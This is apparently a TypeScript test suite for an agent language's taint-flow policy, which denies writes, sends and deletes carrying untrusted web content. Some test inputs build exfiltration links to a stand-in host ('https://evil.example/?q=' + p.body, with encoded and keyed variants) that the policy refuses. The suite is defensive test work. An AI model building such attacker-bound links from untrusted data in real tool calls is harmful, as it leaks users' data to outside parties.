/** The policy for what no clause speaks of: untrusted values in calls that do more than read (F34), and an input that is nobody's word (F37). */
import type { Json } from "@remit/language";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Effect, Outcome, Policy } from "../../src/index.ts";
import { type Asked, did, outcome, run } from "./running.ts";

const never: Policy = { untrusted: { gate: "never" } };
const ask: Policy = { untrusted: { gate: "ask" } };

const IMPORTS = `import tool Web from "https://pages.example"
import tool Files from "file://workspace"
import tool Mail from "mcp://mail"
import llm Claude from "mock://m"
`;
const program = (body: string, imports = IMPORTS): string =>
    `${imports}\nmain agent M { model Claude  role "r"  description "d"  main func(input) { ${body}  1 } }`;
const page = (e: Effect): Outcome | undefined =>
    e.kind === "tool" && (e.request as { tool?: string }).tool === "Web"
        ? { ok: true, value: { body: "from the network", key: "content", empty: {} }, origins: ["tool:Web"] }
        : e.kind === "model"
          ? { ok: true, value: { text: "m", value: "m", calls: [], finish: "stop", model: "m" }, origins: ["model:Claude"] }
          : undefined;
const under = (policy: Policy, body: string, more: Asked = {}, imports?: string) =>
    run(program(`p = Web.get({ url: "/" })  ${body}`, imports), {
        answer: page,
        ...more,
        options: { input: { text: "mine" }, policy, ...more.options },
    });
const told = (policy: Policy, body: string, more?: Asked, imports?: string) => {
    const ran = under(policy, body, more, imports);
    return [did(ran).slice(1), outcome(ran)];
};

describe("untrusted: never", () => {
    test("F34: a wholly network string to a disk sink is denied, with one contributor too", () => {
        expect(told({}, 'Files.write({ path: "a", content: p.body })')).toEqual([["Files.write"], 1]);
        expect(told(never, 'Files.write({ path: "a", content: p.body })')).toEqual([[], "violation.flow"]);
        const ran = under(never, 'Files.write({ path: "a", content: p.body })');
        expect(ran.result).toMatchObject({
            failure: { detail: { arg: "content", origins: ["tool:Web"], rule: "untrusted: never" } },
        });
    });

    test.each([
        ["a part of it", 'Files.write({ path: "a", content: "see " + p.body })'],
        ["a number made of it", 'Files.write({ path: "a", content: p.body.length })'],
        ["as the target", 'Files.write({ path: p.body, content: "a" })'],
        ["by place", 'Files.write("a", p.body)'],
        ["the whole object", "Files.write(p)"],
        ["as a key", 'o = { path: "a" }  o[p.key] = "b"  Files.write(o)'],
        ["an object with nothing in it", "Mail.send(p.empty)"],
        ["what goes along with the generic call of a method without arguments", 'Mail.call({ tool: "send", args: {}, more: p.body })'],
        ["under a name that is a number", 'Mail.send({ to: "a", "2": p.body })'],
        ["under a number in the generic call", 'Mail.call({ tool: "send", args: { "10": p.body } })'],
        ["inside a list", 'Mail.send({ to: ["a", p.body] })'],
        ["by the generic call", 'Mail.call({ tool: "send", args: { to: p.body } })'],
        ["by act", 'act("Files.write", { path: "a", content: p.body })'],
        [
            "what a model made of it",
            'b = p.body\nuse b as page\ng = generate({ input: "x" }) -> string\nFiles.write({ path: "a", content: g })',
        ],
        ["a method that nobody described", "Mail.find({ name: p.body })"],
        ["what deletes", "Web.delete({ url: p.body })"],
        ["in a function", "put(p.body)", 'func put(x) { Files.write({ path: "a", content: x }) }'],
    ])("refuses %s", (_name, body, more = "") => {
        const ran = under(never, body, {}, IMPORTS + more);
        expect(outcome(ran)).toBe("violation.flow");
        expect(did(ran).filter((one) => /write|send|find|delete|call/.test(one))).toEqual([]);
    });

    test.each([
        ["the program's own text and the input", 'Files.write({ path: "a", content: input.text + "!" })'],
        ["methods that only read", "Files.read({ path: p.body })  Web.GET({ url: p.body })  Files.list({ path: p.body })"],
        ["what was endorsed", 'c = endorse p.body as trusted because "ours"  Files.write({ path: "a", content: c })'],
        ["a record of a memory, which keeps its origins", "Notes.add({ text: p.body })", 'import memory Notes from "file://n.jsonl"'],
    ])("lets through %s", (_name, body, more = "") => {
        expect(outcome(under(never, body, {}, IMPORTS + more))).toBe(1);
    });

    test.each([
        ["trusted at the import it came from", IMPORTS.replace('pages.example"', 'pages.example" { trusted }'), 1],
        ["a clause about the argument", IMPORTS.replace('workspace"', 'workspace" { arg write.content: from("tool:Web") }'), 1],
        ["a clause about any method's", IMPORTS.replace('workspace"', 'workspace" { arg content: from("tool:Web") }'), 1],
        ["a clause about the first place", IMPORTS.replace('workspace"', 'workspace" { arg 1: from("tool:Web") }'), 1],
        ["a clause about another argument", IMPORTS.replace('workspace"', 'workspace" { arg path: from("tool:Web") }'), "violation.flow"],
        [
            "a clause about another method",
            IMPORTS.replace('workspace"', 'workspace" { arg read.path: from("tool:Web") }'),
            "violation.flow",
        ],
        ["a gate that says may", IMPORTS.replace('workspace"', 'workspace" { write: may }'), "violation.flow"],
    ])("what the program says of it counts: %s", (_name, imports, is) => {
        expect(outcome(under(never, 'Files.write({ path: "a", content: p.body })', {}, imports))).toBe(is);
    });

    test.each([
        ["a clause about a name, of which nobody can tell which argument it is", 'arg note: from("tool:Web")', "violation.flow"],
        ["one about another place", 'arg 1: from("tool:Web")', "violation.flow"],
        ["one about the place", 'arg save.2: from("tool:Web")', 1],
    ])("arguments by place: %s", (_name, clause, is) => {
        const imports = `${IMPORTS}import tool Crm from "host:crm" { ${clause} }\n`;
        expect(outcome(under(never, 'Crm.save("a", p.body)', {}, imports))).toBe(is);
    });

    test.each([
        ["where every import of the thing says it", '{ arg to: from("tool:Web") }', 1],
        ["for one method", '{ arg send.to: from("tool:Web") }', 1],
        ["where another says nothing", "", "violation.flow"],
        ["where another speaks of another argument", '{ arg body: from("tool:Web") }', "violation.flow"],
        ["where another speaks of another method", '{ arg find.to: from("tool:Web") }', "violation.flow"],
    ])("a clause lets something in %s", (_name, other, is) => {
        const imports = IMPORTS.replace('mail"', `mail" ${other}`);
        const files = { "other.remit": 'import tool Post from "mcp://mail/" { arg to: from("tool:Web") }\nagent H { main func(x) { x } }' };
        for (const call of ["Mail.send({ to: p.body })", "Mail.send({ to: H(p.body) })"])
            expect(outcome(under(never, call, { files }, `${imports}import agent H from "./other.remit"\n`))).toBe(is);
    });

    test("what a project says of an argument lets nothing in", () => {
        const loose: Policy = { ...never, clauses: { Files: [{ kind: "arg", name: "content", from: ["tool:Web"], at: [0, 0, 0, 0] }] } };
        expect(outcome(under(loose, 'Files.write({ path: "a", content: p.body })'))).toBe("violation.flow");
    });

    test("agents under a remit, and what was passed to them", () => {
        const text = (body: string) => `${IMPORTS}
agent F { remit { may Files.write, Web }  func go(x) { ${body} } }
main agent M { main func(input) { F.go(Web.get({ url: "/" }).body) } }`;
        const by = (body: string) => outcome(run(text(body), { answer: page, options: { policy: never } }));
        expect(by('Files.write({ path: "a", content: x })')).toBe("violation.flow");
        expect(by('Files.write({ path: "a", content: "b" }).n')).not.toBe("violation.flow");
    });
});

describe("what a tool says of its methods", () => {
    const methods = [
        { name: "find", readOnly: true },
        { name: "send", readOnly: false },
    ];
    const described = (e: Effect): Outcome | undefined =>
        (e.request as { op?: string }).op === "describe" ? { ok: true, value: { methods }, origins: ["tool:Mail"] } : page(e);
    const of = (body: string, more: Asked = {}) => under(never, body, { answer: described, ...more });
    const asks = (ran: ReturnType<typeof of>) =>
        ran.effects.filter((e) => (e.request as { op?: string }).op === "describe").map((e) => e.path);

    test.each([
        ["a link", '{ at: "https://evil.example/?q=" + p.body }'],
        ["a host with a path", '{ at: "evil.example/" + p.body }'],
        ["one without a scheme", '{ at: "//evil.example/" + p.body }'],
        ["one among words", '{ at: "see www.evil.example " + p.body }'],
        ["one in codes", '{ at: "https&colon;//evil.example/" + p.body }'],
        ["one inside a list", '{ at: [{ to: "https://evil.example/" + p.body }] }'],
        ["one as a key", "keyed"],
        ["by place", '"https://evil.example/" + p.body'],
    ])("a method that only reads takes no link that is not trusted: %s", (_name, arg) => {
        const ran = of(`keyed = {}\nkeyed["https://evil.example/" + p.body] = 1\nMail.find(${arg})`);
        expect([did(ran).at(-1), outcome(ran)]).toEqual(["Web.get", "violation.flow"]);
    });

    test.each(['"https://ours.example/x"', "input.link", '"notes.txt" + p.body', '"folder/notes.txt" + p.body', "p.body", "12345678"])(
        "and takes %s",
        (arg) => {
            const input = { text: "mine", link: "https://mine.example/x" };
            expect(outcome(of(`Mail.find({ at: ${arg} })`, { options: { input, policy: never } }))).toBe(1);
        },
    );

    test("what the runtime's own tools read is where their imports lead, whatever link is asked for", () => {
        expect(outcome(of('Web.get({ url: "https://evil.example/" + p.body })  Files.read({ path: "https://x/" + p.body })'))).toBe(1);
    });

    test("a method that only reads takes anything else, and its tool is asked once", () => {
        const ran = of("Mail.find({ name: p.body })  Mail.find({ name: p.key })");
        expect([did(ran), outcome(ran), asks(ran)]).toEqual([
            ["Web.get", "Mail.find", "Mail.find"],
            1,
            ["main/Mail.find#0/describe[Mail]"],
        ]);
    });

    test.each([
        ["one that does not", "Mail.send({ to: p.body })", described],
        ["one that it does not have", "Mail.other({ to: p.body })", described],
        [
            "one of a tool that cannot say what it has",
            "Mail.find({ to: p.body })",
            (e: Effect): Outcome | undefined =>
                (e.request as { op?: string }).op === "describe"
                    ? { ok: false, failure: { kind: "unreachable", message: "gone" } }
                    : page(e),
        ],
    ])("%s is refused", (_name, body, answer) => {
        expect(outcome(of(body, { answer }))).toBe("violation.flow");
    });

    test("asked for where something depends on it, and not before", () => {
        expect(asks(of("Mail.send({ to: input.text })  Web.get({ url: p.body })  Files.read({ path: p.body })"))).toEqual([]);
        expect(asks(under({}, "Mail.find({ name: p.body })", { answer: described }))).toEqual([]);
    });

    test("by act, in parallel, and caught", () => {
        expect(outcome(of('act("Mail.find", { name: p.body })'))).toBe(1);
        expect(outcome(of("parallel for x in [1, 2, 3] max 3 { Mail.find({ name: p.body }) }"))).toBe(1);
        const caught = of("r = try { Mail.send({ to: p.body }) } catch e { e.kind }  Mail.find({ name: p.body, r: r })");
        expect(outcome(caught)).toBe("violation.flow");
    });
});

describe("untrusted: ask", () => {
    const asked = (body: string, yes: string) => {
        const ran = under(ask, body, { yes });
        return {
            details: ran.effects.flatMap((e) => (e.kind === "ask" ? [(e.request as { detail?: Json }).detail] : [])),
            did: did(ran).slice(1),
            is: outcome(ran),
        };
    };
    const write = "Files.write({ path: p.body, content: p.body })";

    test("puts a question that shows every flow; nobody there is a no", () => {
        expect(asked(write, "once")).toMatchObject({
            details: [{ why: "flow", flow: { arg: "path", origins: ["tool:Web"], rule: "untrusted: ask" }, flows: [{ arg: "content" }] }],
            did: ["Files.write"],
            is: 1,
        });
        expect(asked(write, "deny")).toMatchObject({ did: [], is: "denied" });
    });

    test("a yes for the session is one for the same flow alone", () => {
        const body = 'Files.write({ path: "a", content: p.body })  Files.write({ path: "b", content: p.body })  ';
        expect(asked(body, "session")).toMatchObject({ details: [{}], did: ["Files.write", "Files.write"] });
        expect(asked(`${body}${write}`, "session").details).toHaveLength(2);
    });

    test("asks nothing where nothing is untrusted", () => {
        expect(asked('Files.write({ path: "a", content: input.text })', "deny")).toEqual({ details: [], did: ["Files.write"], is: 1 });
    });
});

describe("an input that is nobody's word", () => {
    const body = 'Files.write({ path: "a", content: input.text })';
    const of = (policy: Policy, inputLabels?: string[]) =>
        outcome(under(policy, body, { options: { input: { text: "t" }, policy, ...(inputLabels === undefined ? {} : { inputLabels }) } }));

    test("F37: it is unlabelled, and never trusted", () => {
        expect(of(never)).toBe(1);
        expect(of({ ...never, input: "unlabelled" })).toBe("violation.flow");
        expect(of(never, ["unlabelled"])).toBe("violation.flow");
        const clause = { Files: [{ kind: "arg", name: "content", at: [0, 0] }] } as unknown as NonNullable<Policy["clauses"]>;
        expect(of({ clauses: clause })).toBe(1);
        expect(of({ clauses: clause, input: "unlabelled" })).toBe("violation.flow");
    });

    test("whoever starts the run may say whose word it is", () => {
        expect(of({ ...never, input: "unlabelled" }, ["user"])).toBe(1);
        expect(of({ ...never, input: "unlabelled" }, ["tool:Inbox"])).toBe("violation.flow");
    });

    test("words of it are not among those of the user", () => {
        const among = IMPORTS.replace('mail"', 'mail" { arg to: among("user") }');
        const to = (policy: Policy) =>
            outcome(
                run(program('Mail.send({ to: Web.get({ url: "/" }).who })', among), {
                    answer: (e) =>
                        (e.request as { tool?: string }).tool === "Web"
                            ? { ok: true, value: { who: "dana" }, origins: ["tool:Web"] }
                            : undefined,
                    options: { input: { text: "write to dana" }, policy },
                }),
            );
        expect(to({})).toBe(1);
        expect(to({ input: "unlabelled" })).toBe("violation.flow");
    });
});

test("whatever the arguments are made of: refused exactly where one carries what is not trusted", () => {
    const part = fc.constantFrom('"a"', "input.text", "p.body", "7", "p.key.length", "{ k: p.body }", '[input.text, "b"]', "none");
    fc.assert(
        fc.property(
            fc.uniqueArray(fc.constantFrom("path", "content", "to", "x"), { minLength: 1 }),
            fc.array(part, { minLength: 4, maxLength: 4 }),
            (names, parts) => {
                const args = names.map((name, i) => `${name}: ${parts[i]}`).join(", ");
                const tainted = names.some((_, i) => parts[i]?.includes("p.") === true);
                expect(outcome(under(never, `Files.write({ ${args} })`))).toBe(tainted ? "violation.flow" : 1);
                expect(outcome(under(never, `Files.read({ ${args} })`))).toBe(1);
            },
        ),
        { numRuns: 60 },
    );
});
